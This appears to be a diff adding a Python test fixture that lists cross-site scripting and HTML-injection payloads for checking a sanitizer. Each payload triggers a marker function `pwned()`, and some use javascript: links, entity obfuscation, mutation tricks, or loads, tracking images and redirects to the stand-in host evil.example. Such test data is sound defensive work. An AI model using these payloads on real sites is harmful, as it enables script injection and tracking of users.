@@ -1,0 +1,26 @@
+"""Texts that would run as script, or load something, where a page takes them for HTML. Each runs `pwned()`."""
+
+PAYLOADS = {
+    "script": "<script>pwned()</script>",
+    "image": "<img src=x onerror=pwned()>",
+    "image, broken open": '"><img src=x onerror="pwned()">',
+    "svg": "<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>",
+    "details": "<details open ontoggle=pwned()>x</details>",
+    "frame": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+    "frame by address": "<iframe src=javascript:parent.pwned()></iframe>",
+    "object": "<object data=javascript:pwned()></object>",
+    "form": "<form action=javascript:pwned()><input autofocus onfocus=pwned()></form>",
+    "style": "<style onload=pwned()>*{background:url(http://evil.example/a)}</style>",
+    "link": "[x](javascript:pwned())",
+    "link with entities": "[x](jav&#x61;script&colon;pwned())",
+    "address": "<a href='javascript:pwned()' autofocus onfocus=pwned()>x</a>",
+    "picture": "![x](http://evil.example/track.png)",
+    "picture with a handler": '![x](x"onerror="pwned())',
+    "code": "```html\n</code></pre><img src=x onerror=pwned()>\n```",
+    "formula": "$$\\href{javascript:pwned()}{x}$$ $$\\htmlData{a=b}{\\unicode{<img src=x onerror=pwned()>}}$$",
+    "template": "{{constructor.constructor('pwned()')()}} ${pwned()}",
+    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
+    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
+    "attribute": "' onmouseover='pwned()' x='",
+    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
+}
